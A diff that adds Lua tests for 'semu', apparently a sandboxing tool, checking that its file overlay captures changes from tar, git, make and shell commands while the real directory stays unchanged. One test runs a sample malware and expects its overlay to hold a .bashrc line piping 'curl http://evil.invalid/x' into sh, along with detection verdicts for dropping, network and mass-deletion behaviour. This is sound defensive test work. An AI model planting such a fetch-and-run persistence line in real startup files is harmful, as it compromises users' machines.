@@ -309,3 +309,135 @@ describe("semu watchdog and nudge", function()
     assert.equal("SIGKILL", doc.processes[2].exit.signal)
   end)
 end)
+
+-- -- The overlay -------------------------------------------------------------------
+-- A directory's files as { relative path = sha256 } (symlinks as "link:TARGET").
+local function files(dir)
+  local t = {}
+  local out = h.capture("cd " .. q(dir) .. " 2>/dev/null && find . \\( -type f -o -type l \\) -print0 | sort -z | " ..
+    "xargs -0 -r -I{} sh -c 'if [ -L \"{}\" ]; then echo \"{} link:$(readlink \"{}\")\"; else echo \"{} $(sha256sum < \"{}\" | cut -c1-16)\"; fi'")
+  for p, hsh in out:gmatch("%./([^\n]-) (%S+)\n") do t[p] = hsh end
+  return t
+end
+
+-- Run script (sh -c) in dir natively and under semu with an overlay, from the
+-- same starting tree made by setup; returns both results and the file maps.
+local function both(name, setup, script, opts)
+  opts = opts or {}
+  local dir = tmp .. "/" .. name
+  local ov = tmp .. "/" .. name .. ".ov"
+  local env = "HOME=" .. q(tmp .. "/home-" .. name) .. " " .. (opts.env or "")
+  local function reset()
+    sh("rm -rf " .. q(dir) .. " " .. q(ov) .. " " .. q(tmp .. "/home-" .. name) .. "; mkdir -p " .. q(dir) .. " " .. q(tmp .. "/home-" .. name))
+    setup(dir)
+  end
+  reset()
+  local before = files(dir)
+  local nat = h.capture("cd " .. q(dir) .. " && " .. env .. " sh -c " .. q(script) .. " 2>&1; echo status=$?")
+  local native = files(dir)
+  reset()
+  local r = h.run({ "semu", "--report", tmp .. "/" .. name .. ".json", "--overlay", ov, "--sandbox", dir, "--", "sh", "-c", script },
+    { cwd = dir, env = env })
+  local under = (r.stdout .. r.stderr) .. "status=" .. r.status .. "\n"
+  return { native_out = nat, semu_out = under, before = before, native = native, real = files(dir),
+           upper = files(ov .. dir), ov = ov, dir = dir, log = tmp .. "/" .. name .. ".json" }
+end
+
+-- The overlay must hold exactly the files native created or changed, and a
+-- whiteout for each file native deleted.
+local function check_overlay(x, ignore)
+  ignore = ignore or {}
+  local want, got = {}, {}
+  for p, hs in pairs(x.native) do
+    if x.before[p] ~= hs and not ignore[p] then want[p] = hs end
+  end
+  for p, hs in pairs(x.upper) do if not ignore[p] then got[p] = hs end end
+  for p in pairs(ignore) do
+    if x.native[p] and x.before[p] ~= x.native[p] then assert.truthy(x.upper[p], "missing in the overlay: " .. p) end
+  end
+  assert.same(want, got)
+  local wh = files(x.ov .. "/.semu-wh" .. x.dir)
+  local deleted = {}
+  for p in pairs(x.before) do if not x.native[p] then deleted[p] = true end end
+  local whs = {}
+  for p in pairs(wh) do
+    local d, n = p:match("^(.-)%.wh%.([^/]*)$")
+    if d and x.before[d .. n] then whs[d .. n] = true end
+  end
+  assert.same(deleted, whs)
+  assert.same(x.before, x.real)     -- the real tree is unchanged
+end
+
+describe("semu overlay", function()
+  it("the sample malware: real tree byte-for-byte unchanged, the overlay holds the changes", function()
+    local dir = tmp .. "/mw3"
+    fresh(dir)
+    local hb = tree_hash(dir)
+    local r, log, drop = run_malware(dir, { "--overlay", tmp .. "/mw3.ov" })
+    assert.equal(0, r.status, r.stderr)
+    assert.equal(hb, tree_hash(dir))
+    assert.equal(1, sh("test -e " .. q(drop)))                 -- not dropped for real
+    local ov = tmp .. "/mw3.ov"
+    assert.equal(0, sh("cmp -s " .. q(mw) .. " " .. q(ov .. drop)))
+    assert.equal("alias ll=ls\ncurl http://evil.invalid/x | sh\n", h.slurp(ov .. dir .. "/home/.bashrc"))
+    assert.equal("keep\n", h.slurp(ov .. dir .. "/work/renamed.txt"))
+    for i = 1, 5 do assert.equal(0, sh("test -f " .. q(ov .. "/.semu-wh" .. dir .. "/work/.wh.victim" .. i .. ".txt"))) end
+    assert.equal(0, sh("test -f " .. q(ov .. "/.semu-wh" .. dir .. "/work/.wh.keep.txt")))
+    assert.equal("valid\n", validate(log))
+    local v = {}
+    for _, x in ipairs(read_log(log).verdicts) do v[x.rule] = x.matched end
+    assert.same({ drops_and_runs = true, writes_shell_startup = true, connects_network = true,
+                  deletes_many_files = true, makes_memory_executable = true }, v)
+  end)
+
+  it("the program sees a consistent view: deletes, renames, creates, listings, cwd", function()
+    local x = both("view", function(d)
+      sh("cd " .. q(d) .. " && mkdir -p sub/deep && echo a > a && echo b > sub/b && echo c > sub/deep/c && ln -s a lnk")
+    end, [[
+      rm a; ls; cat a 2>&1; echo new > g; mv g h; cat h; ls -a sub
+      mkdir d && cd d && pwd && echo x > x && ls && cd .. && rm -r d sub/deep; ls -R
+      echo more >> sub/b; cat sub/b; chmod 600 sub/b; stat -c %a sub/b; ls -l lnk | cut -c1
+      mkdir sub 2>&1; rmdir sub 2>&1; test -e a || echo gone]])
+    assert.equal(x.native_out:gsub(tmp, "TMP"), x.semu_out:gsub(tmp, "TMP"))
+    check_overlay(x)
+  end)
+
+  it("tar xzf: the same output, the overlay holds what native wrote", function()
+    local x = both("tar", function(d)
+      sh("cd " .. q(d) .. " && mkdir -p src/a/b && echo 1 > src/a/one && echo 2 > src/a/b/two && chmod 755 src/a/one && " ..
+         "ln -s one src/a/l && tar czf t.tgz src && rm -r src")
+    end, "tar xzvf t.tgz && ls -lR src | sed 's/  */ /g' | cut -d' ' -f1,5,9-")
+    assert.equal(x.native_out, x.semu_out)
+    check_overlay(x)
+  end)
+
+  it("git init && git commit: the same output, the overlay holds what native wrote", function()
+    if sh("command -v git >/dev/null") ~= 0 then pending("no git") return end
+    local env = "GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@x GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@x " ..
+      "GIT_AUTHOR_DATE='2020-01-01T00:00:00Z' GIT_COMMITTER_DATE='2020-01-01T00:00:00Z' GIT_CONFIG_NOSYSTEM=1"
+    local x = both("git", function(d)
+      sh("cd " .. q(d) .. " && echo hello > f.txt && mkdir s && echo x > s/y")
+    end, "git init -q -b main . && git add . && git commit -q -m first && git log --oneline && git status --short", { env = env })
+    assert.equal(x.native_out, x.semu_out)
+    -- the index records inode numbers and times: present, content not compared
+    check_overlay(x, { [".git/index"] = true })
+  end)
+
+  it("make of a small C project: the same output, the overlay holds what native wrote", function()
+    local x = both("make", function(d)
+      for i = 1, 4 do
+        local f = io.open(d .. "/f" .. i .. ".c", "w")
+        f:write(string.format("int f%d(int x) { return x * %d; }\n", i, i))
+        f:close()
+      end
+      local f = io.open(d .. "/main.c", "w")
+      f:write("#include <stdio.h>\nint f1(int),f2(int),f3(int),f4(int);\nint main(void){printf(\"%d\\n\",f1(1)+f2(1)+f3(1)+f4(1));return 0;}\n")
+      f:close()
+      f = io.open(d .. "/Makefile", "w")
+      f:write("OBJS=main.o f1.o f2.o f3.o f4.o\nprog: $(OBJS)\n\tcc -o $@ $(OBJS)\n%.o: %.c\n\tcc -O2 -c $<\n")
+      f:close()
+    end, "make -j2 -s && ./prog && make -s && rm f4.o && make && ./prog")
+    assert.equal(x.native_out, x.semu_out)
+    check_overlay(x)
+  end)
+end)
